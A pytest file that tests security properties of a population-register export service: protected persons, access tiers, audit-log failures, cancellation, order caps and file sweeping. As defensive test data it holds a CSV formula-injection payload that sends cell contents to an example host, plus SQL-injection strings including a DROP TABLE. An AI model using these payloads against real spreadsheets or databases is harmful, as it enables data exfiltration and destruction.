"""Selections attacked: what a count, a file or a download must never give away — a
person protected since, a field above the token's tier, a formula for a spreadsheet —
and bad criteria answered with a code, never an internal error (docs/selections.md)."""

from __future__ import annotations

import asyncio
import contextlib
import csv
import io
import json
import uuid
from collections.abc import AsyncIterator

import asyncpg
import httpx
import pytest

from api.settings import Settings
from resolvers.domain.access import Tier
from resolvers.selections import export, sweep
from tests.conftest import counted
from tests.selections import Caller, caller, register

__all__ = ["caller", "register"]  # fixtures
from tests.test_selections import GÖTEBORG, PREVIEW, run_worker

PROTECT = "UPDATE person SET protection = 'SEKRETESSMARKERING' WHERE personnummer = $1"


def persons_in(body: bytes) -> list[str]:
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))
    return [row[0] for row in rows[1:]]


async def test_a_person_protected_after_the_order_is_not_in_its_file_nor_its_log(
    register: dict[str, list[str]], caller: Caller, clean_db: asyncpg.Pool, settings: Settings
) -> None:
    order_id = await caller.order(GÖTEBORG, ["PERSONNUMMER"])
    kept, protected = register["selected"]
    await clean_db.execute(PROTECT, protected)
    await run_worker(clean_db, settings, order_id)
    response = await caller.download(order_id)
    assert response.status_code == 200 and persons_in(response.content) == [kept]
    logged = await clean_db.fetch(
        "SELECT personnummer FROM access_log WHERE request_id = "
        "(SELECT request_id FROM selection_order WHERE id = $1)",
        int(order_id),
    )
    assert [row["personnummer"] for row in logged] == [kept]


async def test_a_file_holding_a_person_protected_since_is_no_longer_served(
    register: dict[str, list[str]], caller: Caller, clean_db: asyncpg.Pool, settings: Settings
) -> None:
    order_id = await caller.order(GÖTEBORG, ["PERSONNUMMER", "LAST_NAME"])
    await run_worker(clean_db, settings, order_id)
    assert (await caller.download(order_id)).status_code == 200
    await clean_db.execute(PROTECT, register["selected"][1])
    for headers in ({}, {"Range": "bytes=0-9"}):
        refused = await caller.download(order_id, **headers)
        assert refused.status_code == 410, refused.text
        assert refused.json()["errors"][0]["extensions"]["code"] == "SELECTION_WITHDRAWN"
        assert register["selected"][1].encode() not in refused.content


async def test_a_file_with_fields_above_the_tokens_tier_is_not_served(
    register: dict[str, list[str]], caller: Caller, client: httpx.AsyncClient,
    clean_db: asyncpg.Pool, settings: Settings,
) -> None:  # fmt: skip
    order_id = await caller.order(GÖTEBORG, ["PERSONNUMMER", "KEY_CODE"])
    await run_worker(clean_db, settings, order_id)
    dropped = Caller(client, settings, tier=Tier.BASIC)  # the same official, a basic token
    refused = await dropped.download(order_id)
    assert refused.status_code == 403
    assert refused.json()["errors"][0]["extensions"]["code"] == "FORBIDDEN"
    assert b"148011" not in refused.content
    head = await dropped.client.head(f"/selections/{order_id}/file", headers=dropped.headers)
    assert head.status_code == 403
    assert (await caller.download(order_id)).status_code == 200


async def test_a_name_that_looks_like_a_formula_is_text_in_the_spreadsheet(
    register: dict[str, list[str]], caller: Caller, clean_db: asyncpg.Pool, settings: Settings
) -> None:
    first, second = register["selected"]
    formula = '=HYPERLINK("http://example.com/?"&A2;"Klicka")'
    await clean_db.execute(
        "UPDATE person SET last_name = $2 WHERE personnummer = $1", first, formula
    )
    await clean_db.execute(
        "UPDATE person SET first_names = '-Anna', last_name = 'Öberg-Lind' WHERE personnummer = $1",
        second,
    )
    order_id = await caller.order(GÖTEBORG, ["PERSONNUMMER", "FIRST_NAMES", "LAST_NAME"])
    await run_worker(clean_db, settings, order_id)
    body = (await caller.download(order_id)).content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body), delimiter=";"))
    cells = [cell for row in rows[1:] for cell in row[1:]]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")], cells
    assert "'" + formula in cells and "'-Anna" in cells and "Öberg-Lind" in cells
    ndjson = await caller.order(GÖTEBORG, ["PERSONNUMMER", "LAST_NAME"], format="NDJSON")
    await run_worker(clean_db, settings, ndjson)
    lines = (await caller.download(ndjson)).content.decode().splitlines()
    assert formula in [json.loads(line)["lastName"] for line in lines]  # JSON keeps it as is


@pytest.mark.parametrize("age_on", ["0001-01-01", "0100-06-30", "1799-12-31"])
async def test_an_age_counted_on_a_day_long_ago_is_refused_not_an_internal_error(
    register: dict[str, list[str]], caller: Caller, age_on: str
) -> None:
    answer = await caller.post(PREVIEW, {"criteria": {"ageFrom": 5, "ageTo": 130, "ageOn": age_on}})
    (error,) = answer["errors"]
    assert error["extensions"] == {"code": "BAD_USER_INPUT", "argument": "criteria.ageOn"}


async def test_criteria_reach_the_copy_as_values_never_as_sql(
    register: dict[str, list[str]], caller: Caller, clean_db: asyncpg.Pool, settings: Settings
) -> None:
    for town_name in ("x' OR 1=1 --", "$1", "x');DROP TABLE person;--"):
        order_id = await caller.order({"postalTown": town_name}, ["PERSONNUMMER"])
        await run_worker(clean_db, settings, order_id)
        status = await caller.status(order_id)
        assert (status["status"], status["rowCount"]) == ("DONE", 0), status
    assert await clean_db.fetchval("SELECT count(*) FROM person") > 0


CANCEL = "mutation C($id: ID!) { cancelSelectionOrder(id: $id) { status } }"
EXPORT_LOGGED = """
SELECT count(*) FROM access_request
WHERE request_id = (SELECT request_id FROM selection_order WHERE id = $1)
"""


async def test_an_export_whose_access_log_cannot_be_written_fails_and_leaves_no_file(
    register: dict[str, list[str]], caller: Caller, clean_db: asyncpg.Pool, settings: Settings
) -> None:
    order_id = await caller.order(GÖTEBORG, ["PERSONNUMMER"])
    async with log_refused(clean_db, "selectionExport"):
        with pytest.raises(export.AuditFailed):
            await run_worker(clean_db, settings, order_id)
    status = await caller.status(order_id)
    assert (status["status"], status["downloadUrl"], status["rowCount"]) == ("FAILED", None, None)
    assert status["error"].startswith("The access log could not be written")
    assert list(settings.selection_files.glob(f"{order_id}-*")) == []
    assert (await caller.download(order_id)).status_code == 409
    assert await clean_db.fetchval(EXPORT_LOGGED, int(order_id)) == 0


@contextlib.asynccontextmanager
async def log_refused(pool: asyncpg.Pool, root_field: str) -> AsyncIterator[None]:
    """The access log refuses rows of ``root_field`` while inside."""
    await pool.execute(REFUSE_LOG.replace("ROOT_FIELD", root_field))
    try:
        yield
    finally:
        await pool.execute("DROP TRIGGER refuse_log ON access_request")


REFUSE_LOG = """
CREATE OR REPLACE FUNCTION refuse_log() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
    IF NEW.root_fields = 'ROOT_FIELD' THEN RAISE EXCEPTION 'the log is full'; END IF;
    RETURN NEW;
END $$;
CREATE TRIGGER refuse_log BEFORE INSERT ON access_request
FOR EACH ROW EXECUTE FUNCTION refuse_log();
"""


async def test_an_order_cancelled_while_its_export_copies_is_not_done_nor_logged(
    register: dict[str, list[str]], caller: Caller, clean_db: asyncpg.Pool, settings: Settings
) -> None:
    order_id = await caller.order(GÖTEBORG, ["PERSONNUMMER"])
    async with clean_db.acquire() as blocker:
        # The export copies its rows, then waits to write their log: cancelled meanwhile.
        writing = blocker.transaction()
        await writing.start()
        await blocker.execute("LOCK TABLE access_request IN EXCLUSIVE MODE")
        run = asyncio.create_task(run_worker(clean_db, settings, order_id))
        async with asyncio.timeout(20):
            while not await clean_db.fetchval(WAITING_FOR_THE_LOG):
                await asyncio.sleep(0.01)
        assert (await caller.status(order_id))["status"] == "RUNNING"
        assert (await caller.download(order_id)).status_code == 409  # nothing half-written
        answer = await caller.post(CANCEL, {"id": order_id})
        assert answer["data"]["cancelSelectionOrder"] == {"status": "CANCELLED"}, answer
        await writing.rollback()
        await run
    assert (await caller.status(order_id))["status"] == "CANCELLED"
    assert list(settings.selection_files.glob(f"{order_id}-*")) == []
    assert await clean_db.fetchval(EXPORT_LOGGED, int(order_id)) == 0


WAITING_FOR_THE_LOG = """
SELECT EXISTS (
    SELECT 1 FROM pg_stat_activity
    WHERE wait_event_type = 'Lock' AND query LIKE '%INSERT INTO access_request%'
)
"""


async def test_concurrent_orders_do_not_pass_the_organisations_cap_together(
    register: dict[str, list[str]], caller: Caller, settings: Settings
) -> None:
    order = 'mutation { orderSelection(criteria: {}, purpose: "x", fields: [PERSONNUMMER]) { id } }'
    answers = await asyncio.gather(*(caller.post(order) for _ in range(16)))
    placed = [answer for answer in answers if "errors" not in answer]
    refused = [
        answer["errors"][0]["extensions"]["code"] for answer in answers if "errors" in answer
    ]
    assert len(placed) == settings.selection_max_active_orders
    assert refused == ["TOO_MANY_ORDERS"] * (16 - settings.selection_max_active_orders)


async def test_every_download_is_logged_for_whoever_downloads_before_it_is_sent(
    register: dict[str, list[str]],
    caller: Caller,
    client: httpx.AsyncClient,
    clean_db: asyncpg.Pool,
    settings: Settings,
) -> None:
    order_id = await caller.order(GÖTEBORG, ["PERSONNUMMER", "LAST_NAME"])
    await run_worker(clean_db, settings, order_id)
    subject = f"kollega-{uuid.uuid4().hex[:8]}"  # the log is kept: a name of its own
    colleague = Caller(client, settings, subject=subject)
    assert (await colleague.download(order_id)).status_code == 200
    logged = await clean_db.fetch(
        "SELECT DISTINCT personnummer, root_fields FROM access_log WHERE subject = $1",
        subject,
    )
    assert sorted(row["personnummer"] for row in logged) == register["selected"]
    assert {row["root_fields"] for row in logged} == {"selectionFile"}


async def test_a_download_whose_log_cannot_be_written_sends_nothing_and_is_counted(
    register: dict[str, list[str]],
    caller: Caller,
    client: httpx.AsyncClient,
    clean_db: asyncpg.Pool,
    settings: Settings,
) -> None:
    order_id = await caller.order(GÖTEBORG, ["PERSONNUMMER", "LAST_NAME"])
    await run_worker(clean_db, settings, order_id)
    failures = "vastfolket_access_log_failures_total"
    before = counted((await client.get("/metrics")).text, failures)
    async with log_refused(clean_db, "selectionFile"):
        refused = await caller.download(order_id)
    assert refused.status_code == 503
    assert refused.json()["errors"][0]["extensions"]["code"] == "AUDIT_UNAVAILABLE"
    assert register["selected"][0] not in refused.text
    assert counted((await client.get("/metrics")).text, failures) == before + 1
    assert (await caller.download(order_id)).status_code == 200  # the log back: it is sent


async def test_expired_and_withdrawn_files_are_deleted_by_the_sweep(
    register: dict[str, list[str]], caller: Caller, clean_db: asyncpg.Pool, settings: Settings
) -> None:
    kept, expired = [await caller.order(GÖTEBORG, ["PERSONNUMMER", "LAST_NAME"]) for _ in "ab"]
    for order_id in (kept, expired):
        await run_worker(clean_db, settings, order_id)
    files = settings.selection_files
    await clean_db.execute(
        "UPDATE selection_order SET expires_at = now() - interval '1 second' WHERE id = $1",
        int(expired),
    )
    assert await sweep.sweep(clean_db, files) == [int(expired)]
    assert [path.name.split("-")[0] for path in files.iterdir()] == [kept]
    assert (await caller.download(expired)).status_code == 410
    # A person in the kept file protected since: it goes too.
    await clean_db.execute(
        "UPDATE person SET protection = 'SEKRETESSMARKERING' WHERE personnummer = $1",
        register["selected"][0],
    )
    assert await sweep.sweep(clean_db, files) == [int(kept)]
    assert list(files.iterdir()) == []
    assert await sweep.sweep(clean_db, files) == []
